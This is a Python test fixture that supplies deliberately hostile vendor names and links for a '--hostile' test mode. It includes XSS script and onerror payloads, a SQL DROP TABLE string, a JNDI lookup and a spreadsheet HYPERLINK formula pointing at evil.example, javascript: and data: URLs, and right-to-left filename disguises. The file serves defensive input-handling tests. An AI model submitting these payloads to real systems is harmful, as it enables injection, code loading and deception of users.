"""Vendor-controlled text an attacker would publish, for ``--hostile`` tenants.

Each string targets a different mistake downstream: HTML/script injection, ``javascript:`` links,
right-to-left overrides that disguise names, control characters (NUL breaks PostgreSQL text),
spreadsheet formulas, SQL, and sizes nobody planned a column for.
"""

import random

HOSTILE_NAMES: tuple[str, ...] = (
    "<script>alert('appgov')</script>Timesheets",
    '<img src=x onerror="alert(document.cookie)">Reports',
    "\u202eexe.stroper\u202c Reports",
    "Z\u0337\u0322a\u0336\u0317l\u0338\u0321g\u0335\u031fo\u0334 Planner",
    "Null\x00Byte\x07Bell\x1b[31mAnsi",
    '=HYPERLINK("https://evil.example/x","Click")',
    "'; DROP TABLE apps; --",
    "\u200b\u200d\ufeffInvisible\u2060App",
    "\U0001f4a3\U0001f525 Emoji \U0001f9e8 App \U0001f480",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "W" * 10_000,
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd mixed bidi",
)

HOSTILE_LINKS: tuple[str, ...] = (
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://evil.example/\u202egpj.exe",
    "//evil.example/protocol-relative",
    "https://evil.example/" + "a" * 9_000,
)


def hostile_name(rng: random.Random, fallback: str) -> str:
    """A hostile name most of the time, keeping the real one inside so it stays recognisable."""
    choice = rng.choice(HOSTILE_NAMES)
    return choice if len(choice) > 1_000 else f"{choice} {fallback}"


def hostile_link(rng: random.Random) -> str:
    return rng.choice(HOSTILE_LINKS)
